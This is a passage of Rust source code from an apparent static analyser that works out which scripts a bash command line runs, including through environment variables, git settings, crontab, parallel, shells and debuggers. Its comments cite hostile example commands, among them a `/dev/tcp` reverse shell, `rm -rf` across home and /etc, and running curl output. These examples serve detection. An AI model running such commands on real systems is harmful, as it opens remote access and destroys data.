        // Most lines set no variable: there is nothing to look up.
        if self.command_env.is_empty() && self.vars.is_empty() {
            return;
        }
        for row in knowledge::CODE_VARIABLES
            .iter()
            .filter(|row| row.programs.iter().any(|name| program.starts_with(name)))
        {
            // An option that loads a file runs what the file holds, as a script operand does:
            // unknown when the file is written on this line, or the value carries code.
            let loads = match self.environment(row.name) {
                Some(_) if row.code => {
                    runs.opaque.push(format!(
                        "`{}` gives `{program}` code of its own to run, which the reader does not read",
                        row.name
                    ));
                    continue;
                }
                Some(Binding::Known(values)) => values.iter().any(|value| {
                    // `CFLAGS="$CFLAGS -fplugin=/tmp/p.so"`: what the line spells of the
                    // value is looked at; an option cut by the unknown part may be any.
                    let spelled = match UnknownWord::decode(value) {
                        None => value.clone(),
                        Some(_) if !row.unknown_passes || self.writes_anything() => {
                            return true
                        }
                        Some(unknown) => {
                            let cut = unknown.prefix.split_whitespace().next_back();
                            if cut.is_some_and(|word| {
                                !unknown.prefix.ends_with(char::is_whitespace)
                                    && row.loads.iter().any(|load| word.starts_with(load))
                            }) {
                                return true;
                            }
                            format!("{} {}", unknown.prefix, unknown.suffix)
                        }
                    };
                    let words: Vec<&str> = spelled.split_whitespace().collect();
                    if let Some(command) = words.iter().find(|option| {
                        row.commands.iter().any(|start| option.starts_with(start))
                    }) {
                        runs.opaque.push(format!(
                            "`{}` gives `{program}` a command or code to run (`{command}`), which the reader does not read there",
                            row.name
                        ));
                        return false;
                    }
                    words.iter().enumerate().any(|(at, option)| {
                        row.loads.iter().any(|load| {
                            let Some(rest) = option.strip_prefix(load) else {
                                return false;
                            };
                            let target = Some(rest.trim_start_matches('='))
                                .filter(|rest| !rest.is_empty())
                                .or_else(|| words.get(at + 1).copied())
                                .unwrap_or_default();
                            // Code in the value, or fetched (`--import=data:…`,
                            // `--experimental-loader=https://…`), or written on the line.
                            option.contains([';', '(', '{', '`'])
                                || target.contains("://")
                                || target.starts_with("data:")
                                || knowledge::STDIN_PATHS.contains(&target)
                                || self.was_written(target)
                        })
                    })
                }),
                Some(Binding::Unknown(_) | Binding::Array(_) | Binding::Reference(_)) => {
                    !row.unknown_passes || self.writes_anything()
                }
                None => false,
            };
            if loads {
                runs.opaque.push(format!(
                    "`{}` gives `{program}` options that load code written on this line or known only when it runs",
                    row.name
                ));
            }
        }
        for row in knowledge::command_variables(program) {
            match self.environment(row.name) {
                Some(Binding::Known(values)) => {
                    for value in values {
                        let line = value.trim_start_matches(|ch| row.marks.contains(ch));
                        let line = if row.program && !expand::is_unknown(line) {
                            // One path, blanks and all: a word of its own to the shell.
                            format!("'{}'", line.replace('\'', r"'\''"))
                        } else {
                            line.to_owned()
                        };
                        runs.word(program, line);
                    }
                }
                Some(Binding::Unknown(why)) => runs.opaque.push(why.clone()),
                Some(Binding::Array(_) | Binding::Reference(_)) => {
                    runs.opaque.push(array_in_environment(row.name))
                }
                None => {}
            }
        }
        if program == "git" {
            self.git_variable_runs(runs);
        }
    }

    /// The command lines `git` runs from its environment: the variables of its command
    /// settings (`GIT_SSH_COMMAND`, `GIT_SEQUENCE_EDITOR`), and any setting given by
    /// `GIT_CONFIG_PARAMETERS` or `GIT_CONFIG_KEY_n`/`GIT_CONFIG_VALUE_n`
    fn git_variable_runs(&self, runs: &mut Runs) {
        for setting in knowledge::GIT_COMMAND_SETTINGS {
            let Some(name) = setting.variable else {
                continue;
            };
            match self.environment(name) {
                Some(Binding::Known(values)) => {
                    for value in values {
                        runs.word("git", knowledge::setting_line(setting, value));
                    }
                }
                Some(Binding::Unknown(why)) => runs.opaque.push(why.clone()),
                Some(Binding::Array(_) | Binding::Reference(_)) => {
                    runs.opaque.push(array_in_environment(name))
                }
                None => {}
            }
        }
        for setting in self.git_environment_settings(runs) {
            if let Some(script) =
                knowledge::setting_script(knowledge::GIT_COMMAND_SETTINGS, &setting)
            {
                runs.word("git", script);
            }
            self.git_hooks_written(&setting, runs);
        }
    }

    /// The `KEY=VALUE` settings git takes from its environment; one known only at run time
    /// is unknown, added to `runs`
    fn git_environment_settings(&self, runs: &mut Runs) -> Vec<String> {
        let mut settings = Vec::new();
        if let Some(binding) = self.environment("GIT_CONFIG_PARAMETERS") {
            for value in known_values(binding, runs) {
                settings.extend(git_config_parameters(value));
            }
        }
        // `GIT_CONFIG_COUNT` pairs: git reads as many as it says, each a key and a value.
        for index in 0..GIT_CONFIG_PAIRS {
            let Some(key) = self.environment(&format!("GIT_CONFIG_KEY_{index}")) else {
                break;
            };
            let keys = known_values(key, runs);
            match self.environment(&format!("GIT_CONFIG_VALUE_{index}")) {
                Some(value) => {
                    let values = known_values(value, runs);
                    for (key, value) in keys.iter().zip(values) {
                        settings.push(format!("{key}={value}"));
                    }
                }
                None => settings.extend(keys.iter().map(|key| format!("{key}="))),
            }
        }
        // Pairs past those read are settings only run time sees, never none.
        if self
            .environment(&format!("GIT_CONFIG_KEY_{GIT_CONFIG_PAIRS}"))
            .is_some()
        {
            runs.opaque.push(format!(
                "git is given more than {GIT_CONFIG_PAIRS} `GIT_CONFIG_KEY_…` settings, which are not read"
            ));
        }
        settings
    }

    /// A hook git runs from a folder a setting names (`core.hooksPath=DIR`, the `hooks` of
    /// `init.templateDir=DIR`; see [`knowledge::GIT_HOOK_FOLDERS`]), written on this line:
    /// what it runs is only known then
    fn git_hooks_written(&self, setting: &str, runs: &mut Runs) {
        let Some((key, folder)) = setting.split_once('=') else {
            return;
        };
        if let Some(hooks) = knowledge::git_hook_folder(key, folder) {
            self.git_hooks_written_in(&hooks, runs);
        }
    }

    /// A hook git runs from `folder`, written on this line
    fn git_hooks_written_in(&self, folder: &str, runs: &mut Runs) {
        if self.written.is_empty() {
            return;
        }
        let folder = normalise(folder, &self.context);
        let folder = folder.trim_end_matches('/');
        let hook = self.written.iter().find(|path| {
            path.strip_prefix(folder)
                .is_some_and(|rest| rest.starts_with('/'))
        });
        if let Some(hook) = hook {
            runs.opaque.push(format!(
                "`git` runs `{hook}`, which is written on this line, and what it runs is only known then"
            ));
        }
    }

    /// What `crontab` installs to run later: the commands of a table it reads from its
    /// input, or, from a file or an input the reader cannot see, something unknown
    fn crontab_runs(&self, args: &[String], stdin: Option<&str>, runs: &mut Runs) {
        let lists_or_edits = args.iter().any(|arg| {
            arg.starts_with('-') && arg != "-" && arg.chars().any(|ch| "lreT".contains(ch))
        });
        if lists_or_edits {
            return;
        }
        match (args.iter().find(|arg| !arg.starts_with('-')), stdin) {
            (Some(file), _) => runs.opaque.push(format!(
                "`crontab {file}` installs jobs from a file whose commands are only known when it is read"
            )),
            (None, Some(table)) if expand::is_unknown(table) => runs.opaque.push(
                "the table `crontab` installs from its input is only known at run time".to_owned(),
            ),
            (None, Some(table)) => {
                for command in knowledge::crontab_commands(table) {
                    runs.script(command.to_owned());
                }
            }
            (None, None) => runs.opaque.push(
                "the table `crontab` installs from its input is only known at run time".to_owned(),
            ),
        }
    }

    /// What a builtin runs of an option's value that bash takes as code (see
    /// [`knowledge::BUILTINS`]): the command line with the words bash adds after it, read
    /// when they are known
    fn builtin_code(
        &self,
        program: &str,
        args: &[String],
        evaluation: Evaluation,
        value: &str,
        stdin: Option<&str>,
        runs: &mut Runs,
    ) {
        if expand::is_unknown(value) {
            runs.word(program, value.to_owned());
            return;
        }
        match evaluation {
            Evaluation::Script => match program {
                // `mapfile -C CALLBACK` runs `CALLBACK INDEX 'LINE'` for the lines it reads,
                // each with its delimiter (`-d`, a newline by default) unless `-t` removes it.
                "mapfile" | "readarray" => {
                    let options = knowledge::builtin_options(program, args)
                        .map(|(options, _)| options)
                        .unwrap_or_default();
                    let given = |wanted: char| {
                        options
                            .iter()
                            .rev()
                            .find(|(letter, _)| *letter == wanted)
                            .map(|(_, value)| *value)
                    };
                    let delimiter =
                        given('d').map_or('\n', |value| value.chars().next().unwrap_or('\0'));
                    let chop = given('t').is_some();
                    match stdin.filter(|_| given('u').is_none()) {
                        Some(input) => runs.script(
                            input
                                .split_inclusive(delimiter)
                                .enumerate()
                                .map(|(index, line)| {
                                    let line = match line.strip_suffix(delimiter) {
                                        Some(chopped) if chop => chopped.to_owned(),
                                        Some(_) => line.to_owned(),
                                        None if chop => line.to_owned(),
                                        None => format!("{line}{delimiter}"),
                                    };
                                    format!("{value} {index} {}", single_quoted(&line))
                                })
                                .collect::<Vec<_>>()
                                .join("\n"),
                        ),
                        None => {
                            runs.script(value.to_owned());
                            runs.opaque.push(format!(
                                "the lines `{program}` hands its callback are only known at run time"
                            ));
                        }
                    }
                }
                // `compgen -C COMMAND WORD` runs `COMMAND compgen 'WORD' ''`.
                "compgen" => {
                    let word = knowledge::builtin_options(program, args)
                        .and_then(|(_, operands)| operands.first().copied())
                        .unwrap_or_default();
                    if expand::is_unknown(word) {
                        runs.word(program, word.to_owned());
                    } else {
                        runs.script(format!("{value} compgen {} ''", single_quoted(word)));
                    }
                }
                _ => runs.script(value.to_owned()),
            },
            Evaluation::KeyBinding => {
                if let Some(command) = knowledge::bound_command(value) {
                    runs.script(command.to_owned());
                }
            }
            // Noted as text a place evaluates (see `evaluated`).
            Evaluation::Expanded => {}
            Evaluation::Loaded => runs.opaque.push(format!(
                "`{program}` loads a builtin from `{value}`, whose code is only known at run time"
            )),
        }
    }

    /// What a shell runs: `-c SCRIPT`, a script file, or its input
    fn shell_runs(
        &self,
        program: &str,
        args: &[String],
        stdin: Option<String>,
        upstream: &[usize],
        runs: &mut Runs,
    ) {
        let mut saw_c = false;
        // `-s`: the operands are the script's positional parameters, its input the script.
        let mut saw_s = false;
        let mut options_done = false;
        let mut words = args.iter();
        while let Some(arg) = words.next() {
            // `-e`, `+x` and `--norc` are options until `--`; `-` alone is an operand.
            let option = (!options_done && arg.len() > 1)
                .then(|| arg.strip_prefix('-').or_else(|| arg.strip_prefix('+')))
                .flatten();
            match option {
                Some("-") => options_done = true,
                Some(long) if long.starts_with('-') => {
                    if let Some(script) = long.strip_prefix("-command=") {
                        runs.word_fed(program, script.to_owned(), stdin.as_deref());
                        return;
                    }
                    saw_c |= long == "-command";
                    if knowledge::SHELL_VALUED_LONG.contains(&arg.as_str()) {
                        words.next();
                    }
                }
                Some(cluster) => {
                    saw_c |= arg.starts_with('-') && cluster.contains('c');
                    saw_s |= arg.starts_with('-') && cluster.contains('s');
                    // `-o errexit`, `+O extglob`, `-eo pipefail`: each takes a word.
                    for flag in cluster.chars().filter(|flag| matches!(flag, 'o' | 'O')) {
                        let name = words.next();
                        // `bash -O dotglob -c '…'` lets the script's patterns match dotfiles.
                        runs.dotglob |= flag == 'O'
                            && arg.starts_with('-')
                            && name
                                .is_some_and(|name| name == "dotglob" || expand::is_unknown(name));
                    }
                }
                // `sh -c SCRIPT NAME ARGS…`: `$0` is NAME, `$1`… the words after it.
                // Its input is the script's: `bash -c 'source /dev/stdin' <<< '…'` runs it.
                None if saw_c => {
                    runs.word_fed(program, arg.clone(), stdin.as_deref());
                    let mut rest = words.cloned();
                    runs.params = Some(Params {
                        zero: rest.next(),
                        args: rest.collect(),
                    });
                    return;
                }
                None if saw_s || STDIN_PATHS.contains(&arg.as_str()) => break,
                None => {
                    self.script_file(program, arg, runs);
                    return;
                }
            }
        }
        if saw_c {
            return;
        }
        match stdin {
            Some(script) => runs.script(script),
            None => self.runs_input(program, upstream, runs),
        }
    }

    /// Why the input a program runs is unknown when it comes from a descriptor an earlier
    /// command opened (`bash <&3`, `bash /dev/fd/3`)
    fn descriptor_input(&self, program: &str, file: Option<&str>, runs: &mut Runs) {
        let descriptor = match (file, &self.input) {
            (Some(file), _) => descriptor_of(file),
            (None, Some(RedirectedInput::Descriptor(descriptor))) => Some(descriptor.clone()),
            (None, _) => None,
        };
        if let Some(descriptor) = descriptor {
            runs.opaque.push(format!(
                "the script `{program}` reads from file descriptor {descriptor} is whatever it was opened on, only known at run time"
            ));
        }
    }

    /// Why a shell or an interpreter with a network socket on one of its descriptors
    /// (`bash -i >& /dev/tcp/h/4444 0>&1`) runs code from elsewhere: whether its input is
    /// the socket, or a script or its code reads from it, is only known at run time
    fn network_input(&self, program: &str, runs: &mut Runs) {
        let Some(RedirectedInput::Socket(socket)) = &self.input else {
            return;
        };
        let runs_code = SHELLS.contains(&program)
            || STDIN_RUNNERS.contains(&program)
            || knowledge::interpreter(program).is_some();
        if runs_code {
            runs.opaque.push(format!(
                "`{program}` is connected to the network socket `{socket}`, and may run what is sent from elsewhere, only known at run time"
            ));
        }
    }

    /// The command lines `parallel` runs, added to `runs`: its command's words joined, a
    /// line per argument (`parallel 'rm -rf {}' ::: ARGS`); each argument, with no command
    /// of its own (`parallel ::: CMD…`); given no command at all, each line of its input or
    /// of the files of `-a`/`::::`
    fn parallel_runs(
        &self,
        program: &str,
        args: &[String],
        stdin: Option<String>,
        upstream: &[usize],
        runs: &mut Runs,
    ) {
        let Some(wrapped) = wrapper::wrapped(program, args) else {
            let files = option_value(args, 'a', "--arg-file").into_iter().chain(
                args.iter()
                    .skip_while(|arg| *arg != "::::")
                    .skip(1)
                    .cloned(),
            );
            let mut from_files = false;
            for file in files {
                from_files = true;
                self.script_file(program, &file, runs);
            }
            if !from_files {
                match stdin {
                    Some(script) => runs.script(script),
                    None => self.runs_input(program, upstream, runs),
                }
            }
            return;
        };
        // A command of `{}` alone runs each argument as it is, as no command does: the
        // worst of the two readings, whichever way GNU parallel quotes the argument.
        let lone = args.get(wrapped.at).is_some_and(|word| word == "{}");
        let at = wrapped.at + usize::from(lone);
        let no_command = args.get(at).is_some_and(|word| word.starts_with(":::"));
        if !no_command {
            for line in parallel_lines(args, wrapped.at).unwrap_or_default() {
                runs.word(program, line);
            }
            return;
        }
        // Each argument is a command line; a file's lines are, read as a script is.
        for source in parallel_sources(args.get(at..).unwrap_or_default()) {
            match source {
                ParallelSource::Argument(line) => runs.word(program, line.to_owned()),
                ParallelSource::File(file) => self.script_file(program, file, runs),
                ParallelSource::PastLimit => runs.word(program, parallel_unknown(PAST_LIMIT)),
            }
        }
    }

    /// A script file a shell or `source` runs: a process substitution's output, a file
    /// written on the line, or a word known only at run time
    fn script_file(&self, program: &str, file: &str, runs: &mut Runs) {
        if descriptor_of(file).is_some() {
            self.descriptor_input(program, Some(file), runs);
            return;
        }
        if let Some(inner) = file
            .strip_prefix("<(")
            .and_then(|rest| rest.strip_suffix(')'))
        {
            match expand::literal_output(inner, &self.env()) {
                Some(script) => {
                    if !self.read_script_text(program, script, runs) {
                        runs.opaque.push(format!(
                            "what `{program}` does with the text of `<({})` is only known when it runs",
                            inner.chars().take(40).collect::<String>()
                        ));
                    }
                }
                None if expand::programs_print_own_code(&expand::programs_of(inner)) => {}
                None => runs.opaque.push(format!(
                    "the script `{program}` reads from `<({})` is produced at run time",
                    inner.chars().take(40).collect::<String>()
                )),
            }
        } else if let Some(word) = UnknownWord::decode(file) {
            runs.opaque(program, &word.why);
        } else if let Some(text) = self.written_text(file) {
            if !self.read_script_text(program, text.to_owned(), runs) {
                runs.opaque.push(format!(
                    "`{file}` is written on this line, and what `{program}` does with it is only known then"
                ));
            }
        } else if self.runs_fetched_or_written(file) {
            runs.opaque.push(format!(
                "`{file}` is written or fetched on this line, and what it runs is only known then"
            ));
        }
    }

    /// Reads `text`, which `program` runs as a file (one the line wrote whole, a process
    /// substitution's literal output), as what `program` takes it for: a shell's script, an
    /// interpreter's code (`python3 < p.py`, `node <(echo CODE)`); false for any other
    /// program, whose use of it stays unknown
    fn read_script_text(&self, program: &str, text: String, runs: &mut Runs) -> bool {
        if reads_scripts_as_bash(program) {
            runs.script(text);
        } else if let Some(row) = knowledge::interpreter(program) {
            self.inline(row, program, &text, runs);
        } else {
            return false;
        }
        true
    }

    /// What a transfer client's commands run (`!cmd`) and read more commands from, added to
    /// `runs`; returns the local files they send
    fn transfer_runs(
        &self,
        program: &str,
        transfer: knowledge::TransferCommands,
        upstream: &[usize],
        runs: &mut Runs,
    ) -> Vec<String> {
        for line in transfer.shell_lines.into_iter().chain(transfer.unknown) {
            runs.word(program, line);
        }
        // `sftp -b -` reads its input, which `reads_input` covers already.
        for file in &transfer.files {
            if !STDIN_PATHS.contains(&file.as_str()) {
                self.script_file(program, file, runs);
            }
        }
        if transfer.reads_input {
            self.runs_input(program, upstream, runs);
        }
        transfer.sent
    }

    /// What a debugger's commands run, given in its options, its command files and its
    /// input, which gdb and lldb read commands from too
    fn debugger_runs(
        &self,
        debugger: &Debugger,
        program: &str,
        args: &[String],
        stdin: Option<&str>,
        upstream: &[usize],
        runs: &mut Runs,
    ) {
        let (mut commands, files) = debugger.given(args);
        for file in files {
            if !STDIN_PATHS.contains(&file) {
                self.script_file(program, file, runs);
            }
        }
        match stdin {
            Some(text) => commands.push(text),
            None => self.runs_input(program, upstream, runs),
        }
        for command in commands {
            if let Some(word) = UnknownWord::decode(command) {
                runs.opaque(program, &word.why);
                continue;
            }
            for found in command
                .lines()
                .flat_map(|line| debugger.line_scripts(program, line))
            {
                match found {
                    Ok(script) => runs.word(program, script),
                    Err(why) => runs.opaque.push(why),
                }
            }
        }
    }

    /// A program that runs its input as a script, fed by `upstream`: what it runs is only
    /// known at run time unless every command feeding it prints its own output
    fn runs_input(&self, program: &str, upstream: &[usize], runs: &mut Runs) {
        self.descriptor_input(program, None, runs);
        if let Some(array) = self.coprocess.as_ref().filter(|_| upstream.is_empty()) {
            runs.opaque.push(format!(
                "`{program}` runs as a coprocess, and the script it reads is what the line \
                 writes to `${{{array}[1]}}`, only known at run time"
            ));
        }
        if let Some(RedirectedInput::File(file)) = &self.input {
            self.script_file(program, file, runs);
        }
        let feeding = upstream
            .iter()
            .filter_map(|index| self.commands.get(*index));
        // A bare `exec > >(sh)` hands the shell what every later command prints: `exec`
        // prints no code of its own.
        let mut carriers = feeding.filter(|command| {
            !command.unknown.is_empty()
                || !knowledge::prints_own_code(&command.program, &command.args)
        });
        if let Some(carrier) = carriers.next_back() {
            let name = if carrier.program.is_empty() {
                "a command known only at run time".to_owned()
            } else {
                format!("`{}`", carrier.program)
            };
            runs.opaque.push(format!(
                "the script `{program}` reads from its input comes through {name}, and is only known at run time"
            ));
        }
    }
}

/// The command lines `parallel` runs when its command, from `at`, comes before its first
/// `:::` and carries a blank or a replacement string (`parallel 'rm -rf {}' ::: ~ /etc`),
/// or takes its arguments from files (`::::`): GNU parallel joins the command's words with
/// blanks and runs the line in a shell, each argument quoted in place of `{}` (and `{.}`,
/// `{/}`, `{//}`, `{/.}`, `{N}`), or appended when there is none. `None` for any other form,
/// which the wrapper's reading covers. An argument only known at run time (a file's line,
/// one past the limit), or a replacement string computed by perl (`{= s/x/y/ =}`), makes
/// the line the unknown word it is.
fn parallel_lines(args: &[String], at: usize) -> Option<Vec<String>> {
    let sources = args.iter().position(|arg| arg.starts_with(":::"))?;
    let command = args.get(at..sources)?;
    let arguments = parallel_arguments(args.get(sources..)?);
    let from_files = args.iter().skip(sources).any(|arg| arg.starts_with("::::"));
    if !from_files && !command.iter().any(|word| word.contains([' ', '\t', '{'])) {
        return None;
    }
    let template = command.join(" ");
    if template.contains("{=") {
        return Some(vec![parallel_unknown(
            "a `{= … =}` replacement string of `parallel` is computed by perl at run time",
        )]);
    }
    let lines = arguments
        .into_iter()
        .map(|arg| {
            if expand::is_unknown(&arg) {
                return arg;
            }
            parallel_replaced(&template, &arg)
                .unwrap_or_else(|| format!("{template} {}", single_quoted(&arg)))
        })
        .collect();
    Some(lines)
}

/// The arguments `parallel` reads from its sources, each an unknown word where it is only
/// known at run time (a file's line, an argument past the limit)
fn parallel_arguments(sources: &[String]) -> Vec<String> {
    parallel_sources(sources)
        .map(|source| match source {
            ParallelSource::Argument(word) => word.to_owned(),
            ParallelSource::File(file) => parallel_unknown(&format!(
                "the arguments `parallel` reads from the lines of `{file}` are known only at run time"
            )),
            ParallelSource::PastLimit => parallel_unknown(PAST_LIMIT),
        })
        .collect()
}

/// Why the arguments of `parallel` past [`MAX_PARALLEL_ARGUMENTS`] are unknown
const PAST_LIMIT: &str = "`parallel` is given more arguments than are read";

/// Where `parallel` takes an argument from
enum ParallelSource<'a> {
    /// A word after `:::` or `:::+`
    Argument(&'a str),
    /// A file after `::::` or `::::+`, each of whose lines is one
    File(&'a str),
    /// The arguments past [`MAX_PARALLEL_ARGUMENTS`], which are not read
    PastLimit,
}

/// The sources of `parallel`'s arguments in `sources` (from its first `:::`), the first
/// [`MAX_PARALLEL_ARGUMENTS`], then [`ParallelSource::PastLimit`] if any are left
fn parallel_sources(sources: &[String]) -> impl Iterator<Item = ParallelSource<'_>> {
    let mut from_file = false;
    let mut words = sources.iter().filter_map(move |word| {
        if word.starts_with(":::") {
            from_file = word.starts_with("::::");
            None
        } else if from_file {
            Some(ParallelSource::File(word))
        } else {
            Some(ParallelSource::Argument(word))
        }
    });
    let mut read = 0;
    std::iter::from_fn(move || {
        if read > MAX_PARALLEL_ARGUMENTS {
            return None;
        }
        read += 1;
        match words.next() {
            Some(_) if read > MAX_PARALLEL_ARGUMENTS => Some(ParallelSource::PastLimit),
            next => next,
        }
    })
}

/// An unknown word standing for what `parallel` runs, and why
fn parallel_unknown(why: &str) -> String {
    UnknownWord {
        prefix: String::new(),
        suffix: String::new(),
        split: true,
        name: false,
        own_code: false,
        one_word: false,
        why: why.to_owned(),
    }
    .encode()
}

/// How many arguments of `parallel` are read: each is a command line of its own
const MAX_PARALLEL_ARGUMENTS: usize = 64;

/// `template` with GNU parallel's replacement strings put for what they stand for of `arg`;
/// `None` when it has none
fn parallel_replaced(template: &str, arg: &str) -> Option<String> {
    let base = arg.rsplit_once('/').map_or(arg, |(_, base)| base);
    let dir = arg.rsplit_once('/').map_or(".", |(dir, _)| dir);
    let no_ext = |text: &str| {
        text.rsplit_once('.')
            .filter(|(stem, ext)| !stem.is_empty() && !ext.contains('/'))
            .map_or(text.to_owned(), |(stem, _)| stem.to_owned())
    };
    let mut line = String::new();
    let mut replaced = false;
    let mut rest = template;
    while let Some(open) = rest.find('{') {
        let (before, from) = rest.split_at(open);
        line.push_str(before);
        let close = from.find('}').unwrap_or(from.len());
        let inner = from.get(1..close).unwrap_or_default();
        let digits = inner.trim_start_matches(|ch: char| ch.is_ascii_digit());
        let value = match digits {
            "" => Some(arg.to_owned()),
            "." => Some(no_ext(arg)),
            "/" => Some(base.to_owned()),
            "//" => Some(dir.to_owned()),
            "/." => Some(no_ext(base)),
            "#" | "%" => Some("1".to_owned()),
            _ => None,
        };
        match value {
            Some(value) => {
                replaced = true;
                line.push_str(&single_quoted(&value));
                rest = from.get(close + 1..).unwrap_or_default();
            }
            None => {
                line.push('{');
                rest = from.get(1..).unwrap_or_default();
            }
        }
    }
    line.push_str(rest);
    replaced.then_some(line)
}

/// The command line an alias's value makes with the words after it (escaped, since they
/// are expanded already) and a literal input, given as a here-string to its last command;
/// `None` when a word is only known at run time, which escaping would make a literal
fn alias_script(value: &str, args: &[String], input: Option<&str>) -> Option<String> {
    let mut script = value.to_owned();
    for arg in args {
        if expand::is_unknown(arg) {
            return None;
        }
        script.push(' ');
        script.push_str(&escaped(arg));
    }
    if let Some(input) = input {
        script.push_str(" <<< ");
        script.push_str(&single_quoted(input.strip_suffix('\n').unwrap_or(input)));
    }
    Some(script)
}

/// An expanded word written back so that bash reads it as that word again: the home it
/// starts with (kept as `~` or `$HOME`) and its pattern characters as they are, which the
/// reader matches as it would have, every other character that is not plain escaped
fn escaped(word: &str) -> String {
    let (home, rest) = ["~", "$HOME", "${HOME}"]
        .iter()
        .find_map(|home| {
            let rest = word.strip_prefix(home)?;
            (rest.is_empty() || rest.starts_with('/')).then_some((*home, rest))
        })
        .unwrap_or(("", word));
    let mut out = home.to_owned();
    for ch in rest.chars() {
        match ch {
            '\n' => out.push_str("'\n'"),
            _ if ch.is_ascii_alphanumeric() || "-_./,:=@%+*?[]".contains(ch) => out.push(ch),
            _ => {
                out.push('\\');
                out.push(ch);
            }
        }
    }
    if out.is_empty() {
        out.push_str("''");
    }
    out
}

/// `text` in single quotes, as bash quotes a word it hands a command line
/// (`sh_single_quote`): each `'` ended, escaped and reopened
fn single_quoted(text: &str) -> String {
    format!("'{}'", text.replace('\'', "'\\''"))
}

/// The scripts a command runs that can be read, and why those that cannot are not
#[derive(Default)]
struct Runs {
    scripts: Vec<String>,
    /// Scripts run with an input of their own: a remote command and what ssh reads (`ssh
    /// HOST 'bash -s' <<EOF`), literal text or a word only run time knows
    fed: Vec<(String, String)>,
    /// The positional parameters the scripts are given, when the command names them: `$0`
    /// and the words after `sh -c SCRIPT`
    params: Option<Params>,
    opaque: Vec<String>,
    /// What an interpreter's code runs, in the order the code says
    inline: Vec<InlineRun>,
    /// Files an interpreter's code writes: the path, normalised, or why it is unknown
    writes: Vec<Result<String, String>>,
    /// Secrets an interpreter's code names, normalised: files it may read
    reads: Vec<String>,
    /// Scripts run when the shell exits (`trap '…' EXIT`)
    at_exit: Vec<String>,
    /// Whether the scripts run with `dotglob` on (`bash -O dotglob -c '…'`)
    dotglob: bool,
}

impl Runs {
    fn script(&mut self, script: String) {
        match UnknownWord::decode(&script) {
            // `bash <<< "$(curl …)"`: input made at run time is a script known only then.
            Some(unknown) if unknown.own_code => {}
            Some(unknown) => self.opaque.push(format!(
                "the script a program reads from its input is built at run time: {}",
                unknown.why
            )),
            None => self.scripts.push(script),
        }
    }

    /// A script given as a word: read when known, else unknown (unless a program printed
    /// its own code into it)
    fn word(&mut self, program: &str, word: String) {
        match UnknownWord::decode(&word) {
            Some(unknown) if unknown.own_code => {}
            Some(unknown) => self.opaque(program, &unknown.why),
            None => self.scripts.push(word),
        }
    }

    fn opaque(&mut self, program: &str, why: &str) {
        self.opaque.push(format!(
            "the script `{program}` runs is built at run time: {why}"
        ));
    }

    /// A script given as a word, read as [`Runs::word`] does, that runs with `input` as its
    /// input when the command is given one (`bash -c SCRIPT <<< TEXT`, `echo TEXT | eval
    /// …`): each of its commands that reads its input reads `input`, literal text or a word
    /// only known at run time
    fn word_fed(&mut self, program: &str, word: String, input: Option<&str>) {
        match input {
            Some(input) if UnknownWord::decode(&word).is_none() => {
                self.fed.push((word, input.to_owned()))
            }
            _ => self.word(program, word),
        }
    }
}

/// What an interpreter's code runs: a command line handed to a shell, or a program with
/// its words and no shell between
enum InlineRun {
    Script(String),
    Exec(Vec<String>),
}

/// The files an interpreter's code writes, as redirects of the interpreter's output
fn inline_writes(
    program: &str,
    writes: Vec<Result<String, String>>,
    upstream: &[usize],
) -> SimpleCommand {
    let mut command = SimpleCommand {
        program: program.to_owned(),
        stdin_from: sorted(upstream),
        ..SimpleCommand::default()
    };
    for write in writes {
        match write {
            Ok(target) => command.redirects.push(Redirect {
                operator: ">".to_owned(),
                target,
            }),
            Err(why) => command.unknown.push(Unknown {
                part: Part::Redirect(Target {
                    prefix: String::new(),
                    suffix: String::new(),
                    name: false,
                    dir: None,
                }),
                why,
            }),
        }
    }
    command
}

/// The program a word names, and why it is unknown when it is: an expansion (`$cmd`) or a
/// pattern (`/???/???/sud?`)
fn program_of(word: String) -> (String, Option<String>) {
    if let Some(unknown) = UnknownWord::decode(&word) {
        return (String::new(), Some(unknown.why));
    }
    if word.contains(['*', '?', '[']) {
        let why = format!("the program `{word}` is a pattern, matched at run time");
        return (String::new(), Some(why));
    }
    // A package a runner fetches (`npx npm@10`, `npx @scope/cli@2`) is named without its
    // version, a scoped name whole. (A byte search: `rfind` sets a searcher up.)
    let word = match word
        .bytes()
        .rposition(|byte| byte == b'@')
        .filter(|at| *at > 0)
    {
        Some(at) if !word.contains(char::is_whitespace) => {
            word.get(..at).unwrap_or(&word).to_owned()
        }
        _ => word,
    };
    if word.starts_with('@') {
        return (word, None);
    }
    let program = match basename(&word) {
        name if name.len() == word.len() => word,
        name => name.to_owned(),
    };
    (jar_program(program), None)
}

/// A Java archive run as a program (`java -jar bfg-1.14.0.jar`) is named as its tool is:
/// without `.jar` and the version after its name, as a package a runner fetches is
fn jar_program(program: String) -> String {
    let Some(stem) = program.strip_suffix(".jar").filter(|stem| !stem.is_empty()) else {
        return program;
    };
    let versioned = stem
        .match_indices('-')
        .find(|(at, _)| {
            stem.get(at + 1..)
                .is_some_and(|rest| rest.starts_with(|ch: char| ch.is_ascii_digit()))
        })
        .map(|(at, _)| at);
    match versioned {
        Some(at) if at > 0 => stem.get(..at).unwrap_or(stem).to_owned(),
        _ => stem.to_owned(),
    }
}

/// What `git -c alias.NAME=VALUE ... NAME` runs instead of `NAME`
enum GitAlias {
    /// The words of `git` with the alias replaced
    Words(Vec<String>),
    /// `!command`: a shell script
    Script(String),
}

/// A file redirect as tree-sitter-bash gives it, taken apart once
struct FileRedirect<N> {
    /// The operator, as written with its descriptor (`2>>`, `<&`)
    operator: String,
    /// The parts of the target's word, each starting where the one before ends (`> 'a'\b`)
    target: Vec<N>,
    /// The words after a blank, which belong to the command (`> f b`)
    after: Vec<N>,
}

impl<N: Syntax> FileRedirect<N> {
    /// The parts of `node`; `None` unless it is a `file_redirect`
    fn of(node: N, source: &str) -> Option<Self> {
        if node.kind() != "file_redirect" {
            return None;
        }
        let mut operator = String::new();
        let mut target: Vec<N> = Vec::new();
        let mut after = Vec::new();
        for child in node.children() {
            match child.kind() {
                "file_descriptor" => operator.push_str(text(child, source)),
                // From the text: `<>` is parsed as `>>` (see `bash_tree::parse`).
                _ if !child.is_named() => operator.push_str(text(child, source)),
                _ if !after.is_empty()
                    || target
                        .last()
                        .is_some_and(|last| last.byte_range().end != child.byte_range().start) =>
                {
                    after.push(child)
                }
                _ => target.push(child),
            }
        }
        Some(Self {
            operator,
            target,
            after,
        })
    }
}

/// Where byte `offset` of `source` lies in memory: the same place is the same node, whatever
/// script it was parsed from
fn place_of(source: &str, offset: usize) -> usize {
    (source.as_ptr() as usize).wrapping_add(offset)
}

